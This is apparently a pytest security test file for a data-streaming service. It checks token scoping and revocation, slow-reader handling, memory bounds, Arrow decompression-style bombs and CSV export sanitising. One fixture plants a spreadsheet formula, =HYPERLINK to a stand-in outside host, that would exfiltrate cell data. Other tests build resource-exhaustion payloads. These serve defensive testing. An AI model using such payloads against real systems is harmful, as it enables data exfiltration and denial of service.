"""Attacks on a service, each the smallest that is known: by readers who do not read, writers, and tokens of others."""

import json
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import httpx
import polars as pl
import pyarrow as pa
import pytest
from tests.service.served import asking, begun, shop

from pianissimo import Budget, Count, Histogram, Stream
from pianissimo.service import TokenFile, analyst, serving, viewer_app
from pianissimo.service.analyst import asked_tables
from pianissimo.service.app import operator_app
from pianissimo.service.shelf import Shelf

ARROW = "application/vnd.apache.arrow.stream"
LABELS = 2_000


def bearer(token: str) -> dict[str, str]:
    return {"Authorization": f"Bearer {token}"}


@pytest.fixture(scope="module")
def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A stream whose releases have many labels."""
    found = tmp_path_factory.mktemp("large") / "large"
    labels = [f"a label with a long name {place}" for place in range(LABELS)]
    queries = [Count("visits"), Histogram("cities", key="city", domain=labels)]
    stream = Stream("large", budget=Budget(8, 1e-6), horizon=100, tick="1m", origin="2026-01-01", queries=queries)
    with stream.open(found) as live:
        for _ in range(40):
            live.tick([{"city": labels[0]}])
    return found


def test_a_token_of_an_operator_is_for_its_stream_alone(tmp_path: Path) -> None:
    tokens, stop = TokenFile(tmp_path / "tokens"), threading.Event()
    token, _ = tokens.add("operator", streams=["another"])
    with begun(tmp_path, 1) as live, serving(operator_app(live, stop, str(tmp_path / "shop"), tokens=tokens)) as place:
        answers = [httpx.get(f"{place}/operator/status", headers=bearer(token)).status_code]
        answers.append(httpx.post(f"{place}/operator/stop", headers=bearer(token)).status_code)
    assert (answers, stop.is_set()) == ([404, 404], False)


def test_who_asks_and_does_not_read_is_given_up_and_holds_little(large: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    # Docs: who takes no byte for 30 s is given up. Here the head's clock, the only one there is, runs faster.
    monkeypatch.setattr("pianissimo.service.protocol.HEAD_SECONDS", 0.5)
    monkeypatch.setattr("pianissimo.service.pushed.PATIENCE", 0.5)
    with serving(viewer_app([large], public=True)) as place:
        host, port = place.removeprefix("http://").split(":")
        with socket.socket() as reader:
            reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            reader.connect((host, int(port)))
            reader.sendall(f"GET /v1/streams/large/releases?from=1 HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
            time.sleep(3)
            reader.settimeout(5)
            came = 0
            while piece := _read(reader):
                came += len(piece)
        whole = len(httpx.get(f"{place}/v1/streams/large/releases?from=1").content)
    # What the system's buffers took may still come; not all of what the service held for three seconds.
    assert came < whole


def _read(reader: socket.socket) -> bytes:
    try:
        return reader.recv(1 << 16)
    except OSError:
        return b""


def test_windows_that_are_kept_take_bounded_memory(large: Path) -> None:
    import tracemalloc

    shelf = Shelf(large)
    tracemalloc.start()
    try:
        for end in range(2, 22):
            shelf.window(1, end)
        before = tracemalloc.get_traced_memory()[0]
        for end in range(22, 32):
            shelf.window(1, end)
        each = (tracemalloc.get_traced_memory()[0] - before) / 10
    finally:
        tracemalloc.stop()
        shelf.close()
    from pianissimo.service.shelf import MEMORY, MOST_WINDOWS

    assert each * MOST_WINDOWS <= 4 * MEMORY


def test_a_page_of_windows_is_as_small_as_one_of_the_history(large: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("pianissimo.service.viewer.MOST_BYTES", 1 << 20)
    begin, ends = 0, list[int]()
    with asking([large], public=True) as client:
        while begin is not None:
            found = client.get(f"/v1/streams/large/windows?from={begin}&to=24&step=1")
            assert len(found.content) <= (1 << 20) + 1000
            begin, windows = found.json()["next"], found.json()["windows"]
            ends += [each["to"] for each in windows]
            assert all(len(each["releases"]["cities"]) == LABELS for each in windows)
    assert ends == list(range(1, 25))


def _nested(depth: int) -> bytes:
    kind = pa.int32()
    for _ in range(depth):
        kind = pa.struct([("a", kind)])
    output = pa.BufferOutputStream()
    pa.ipc.new_stream(output, pa.schema([("s", kind)])).close()
    return bytes(output.getvalue())


def _one_long_label(rows: int) -> bytes:
    column = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), pa.array(["x" * 100_000]))
    table, output = pa.table({"city": column}), pa.BufferOutputStream()
    with pa.ipc.new_stream(output, table.schema) as writer:
        writer.write_table(table)
    return bytes(output.getvalue())


_TAKE = """
import resource, sys
resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
from pianissimo.errors import InputError
from pianissimo.service.inbox import lines_of
lines_of(b'{"city": "Oslo"}', "application/x-ndjson", None)
body, before = sys.stdin.buffer.read(), resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
try:
    lines_of(body, "application/vnd.apache.arrow.stream", None)
except InputError:
    print("refused", (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) // 1024)
"""


@pytest.mark.parametrize("body", [_nested(5_000), _one_long_label(10_000)], ids=["nested", "one long label"])
def test_an_arrow_bomb_is_refused_and_kills_nobody(body: bytes) -> None:
    # 200 kB and 140 kB. S6: refused within 16 MiB each; twice that for the reader's own start.
    done = subprocess.run([sys.executable, "-c", _TAKE], input=body, capture_output=True, timeout=60, check=False)
    assert done.returncode == 0, f"killed by {-done.returncode}"
    word, _, grown = done.stdout.decode().partition(" ")
    assert word == "refused"
    assert int(grown) <= 48


@pytest.fixture(scope="module")
def formulas(tmp_path_factory: pytest.TempPathFactory) -> Iterator[httpx.Client]:
    folder = tmp_path_factory.mktemp("formulas")
    with shop().open(folder / "shop") as live:
        live.tick([{"city": '=HYPERLINK("http://elsewhere.example/"&A1)', "price": 1}] * 5000)
    with asking([folder / "shop"], public=True) as client:
        yield client


def test_the_history_as_csv_has_no_formula(formulas: httpx.Client) -> None:
    told = formulas.get("/v1/streams/shop/releases?query=cities&format=csv").text
    rows = pl.read_csv(told.encode()).to_dicts()
    assert any("HYPERLINK" in str(row) for row in rows)
    assert not [value for row in rows for value in row.values() if isinstance(value, str) and value[0] in "=+-@"]


def test_a_revoked_token_is_sent_no_more_of_what_is_behind(large: Path, tmp_path: Path) -> None:
    tokens = TokenFile(tmp_path / "tokens")
    token, grant = tokens.add("viewer")
    with serving(viewer_app([large], tokens=tokens)) as place:
        host, port = place.removeprefix("http://").split(":")
        with socket.socket() as reader:
            reader.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            reader.connect((host, int(port)))
            head = f"GET /v1/streams/large/releases?after=0 HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {token}"
            reader.sendall(f"{head}\r\n\r\n".encode())
            reader.recv(4096)
            tokens.revoke(grant.id)
            time.sleep(1.5)
            reader.settimeout(3)
            came = b""
            while piece := _read(reader):
                came += piece
    # What the system's buffers had taken by then may still come: a few of 40.
    assert b"id: 40\n" not in came


def test_a_store_that_hangs_keeps_no_revoked_token_alive(tmp_path: Path) -> None:
    begun(tmp_path, 1).close()
    tokens = TokenFile(tmp_path / "tokens")
    token, grant = tokens.add("viewer")
    with asking([tmp_path / "shop"], tokens=tokens) as client:
        assert client.get("/v1/streams", headers=bearer(token)).status_code == 200
        other = sqlite3.connect(tmp_path / "shop" / "state.db", isolation_level=None)
        try:
            other.execute("BEGIN EXCLUSIVE")
            time.sleep(0.5)
            tokens.revoke(grant.id)
            time.sleep(1.2)
            status = client.get("/v1/streams", headers=bearer(token)).status_code
        finally:
            other.close()
    assert status == 401


def test_who_sends_a_question_again_while_it_is_asked_waits_for_its_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    begun(tmp_path, 1).close()
    rows = [{"member": f"member {m}", "article": a} for m in range(3000) for a in ("tea", "rain")[: 1 + m % 2]]
    pl.DataFrame(rows).write_parquet(tmp_path / "clicks.parquet")
    table = '[clicks]\nsource = "clicks.parquet"\nuser = "member"\nepsilon = 2\ndelta = 1e-8\n'
    (tmp_path / "tables.toml").write_text(table)
    tokens = TokenFile(tmp_path / "tokens")
    token, _ = tokens.add("analyst")

    put = analyst._put

    def slow(*args: Any) -> Any:
        """As a database that takes its time."""
        found = put(*args)
        time.sleep(0.5)
        return found

    monkeypatch.setattr(analyst, "_put", slow)
    asked = {"kind": "top_k", "column": "article", "k": 2, "at_most": 100}
    with asking([tmp_path / "shop"], tokens=tokens, tables=asked_tables(tmp_path / "tables.toml")) as client:

        def ask(is_second: bool) -> httpx.Response:
            while is_second and not list((tmp_path / "tables.answers" / "clicks").glob("*.json")):
                time.sleep(0.01)
            headers = {**bearer(token), "Idempotency-Key": "one"}
            return client.post("/v1/streams/clicks/questions", json=asked, headers=headers)

        with ThreadPoolExecutor(2) as threads:
            first, second = threads.map(ask, (False, True))
    assert first.status_code == 200
    assert "cut off" not in second.text
    assert json.loads(second.content) == json.loads(first.content)
